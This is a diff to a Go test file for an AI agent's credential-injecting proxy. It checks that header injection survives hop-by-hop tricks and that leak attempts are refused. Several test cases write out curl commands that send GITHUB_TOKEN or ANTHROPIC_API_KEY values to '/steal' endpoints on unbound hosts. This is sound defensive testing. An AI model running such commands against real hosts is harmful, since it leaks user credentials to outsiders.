@@ -205,6 +205,11 @@ missing:
 	if len(seen) != 1 || seen[0].Header.Get("Authorization") != "Bearer "+gh || seen[0].URI != "/user?access_token="+gh+"&page=2" {
 		t.Fatalf("the bound upstream saw %+v, want the injected header and the value in the query", seen)
 	}
+	// Naming the injected header as hop-by-hop does not strip it: it is set after the proxy has removed them.
+	agent(`curl -sS -o /dev/null -H "Connection: Authorization" -H "Authorization: x" ` + bound.url() + `/hop`)
+	if seen := bound.requests(); len(seen) != 2 || seen[1].Header.Get("Authorization") != "Bearer "+gh {
+		t.Fatalf("with Connection: Authorization the upstream saw %+v", seen[len(seen)-1].Header)
+	}
 	// The llm rule: the agent's SDK sends the placeholder in its own header.
 	r = agent(`curl -sS -D - -H "X-Api-Key: $ANTHROPIC_API_KEY" ` + llm.url() + `/v1/messages`)
 	if seen := llm.requests(); !strings.Contains(r.Stdout, "X-Echo-Api-Key: [redacted]") || len(seen) != 1 || seen[0].Header.Get("X-Api-Key") != llmKey {
@@ -221,6 +226,7 @@ missing:
 	// Placeholders where they are not bound: refused, and the host receives nothing.
 	for _, tt := range []struct{ name, script string }{
 		{"header to an unbound host", `curl -sS -D - -H "Authorization: Bearer $GITHUB_TOKEN" ` + unbound.url() + `/steal`},
+		{"another case to an unbound host", `curl -sS -D - -H "X-Key: SWARM-PROXY-SECRET:GitHub" ` + unbound.url() + `/steal`},
 		{"query to an unbound host", `curl -sS -D - "` + unbound.url() + `/steal?t=$GITHUB_TOKEN"`},
 		{"another secret to a bound host", `curl -sS -D - -H "X-Api-Key: $ANTHROPIC_API_KEY" ` + bound.url() + `/steal`},
 		{"path to a bound host", `curl -sS -D - "` + llm.url() + `/steal/$GITHUB_TOKEN"`},
@@ -245,10 +251,10 @@ missing:
 		data, _ := os.ReadFile(logFile)
 		return ParseRecords(t, string(data))
 	}
-	Eventually(t, "the access records", func() bool { return len(recs()) >= 8 })
+	Eventually(t, "the access records", func() bool { return len(recs()) >= 10 })
 	for _, rec := range recs() {
 		switch {
-		case rec.Path == "/user" || rec.Path == "/raw":
+		case rec.Path == "/user" || rec.Path == "/raw" || rec.Path == "/hop":
 			if !slices.Equal(rec.Secrets, []string{"github"}) || rec.Status != 200 {
 				t.Errorf("record %+v: want secrets [github]", rec)
 			}
